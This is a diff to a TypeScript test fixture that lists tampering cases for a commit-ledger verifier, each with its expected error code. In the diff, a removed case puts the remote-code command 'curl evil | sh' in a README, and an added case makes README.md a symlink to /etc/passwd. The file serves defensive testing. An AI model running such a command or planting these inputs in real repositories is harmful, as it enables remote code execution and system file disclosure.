@@ -1,3 +1,4 @@
+import type { PlannedCommit } from "../../fake-clone.ts";
 import { sampleLedger } from "../../ledger-builder.ts";
 import { digestOf } from "../../verdict-fixture.ts";
 import { type Attack, BATCH, amended } from "./attack.ts";
@@ -60,8 +61,11 @@ export const FILE_ATTACKS: readonly Attack[] = [
     codes: ["FILE_FOREIGN", "FILE_MISSING"],
   },
   {
-    when: "the README tells another way to verify",
-    commits: () => amended(sampleLedger().commits, 0, { "README.md": "curl evil | sh\n" }),
+    when: "the README is a link",
+    commits: () =>
+      amended(sampleLedger().commits, 0, {
+        "README.md": { mode: "120000", content: "/etc/passwd" },
+      }),
     codes: ["FILE_FOREIGN"],
     place: "README.md",
   },
@@ -110,7 +114,25 @@ export const MESSAGE_ATTACKS: readonly Attack[] = [
     codes: ["MESSAGE_MISMATCH"],
     place: "commit 4",
   },
+  {
+    when: "history is made anew: one commit places two batches, and tells of the later one alone",
+    commits: () => {
+      const [genesis, denied, others, allowed] = sampleLedger().commits;
+      const together = { message: "", files: { ...denied?.files, ...allowed?.files } };
+      return [genesis, { ...together, message: allowed?.message ?? "" }, others].map((commit) => ({
+        message: commit?.message ?? "",
+        files: { ...commit?.files, ...(commit === others ? headOf(allowed) : {}) },
+      }));
+    },
+    codes: ["MESSAGE_MISMATCH"],
+    place: "commit 1",
+  },
 ];
+
+function headOf(commit: PlannedCommit | undefined): PlannedCommit["files"] {
+  const { checkpoint = null, frontier = null } = commit?.files ?? {};
+  return { checkpoint, frontier };
+}
 
 export const NO_LEDGERS: readonly Attack[] = [
   {
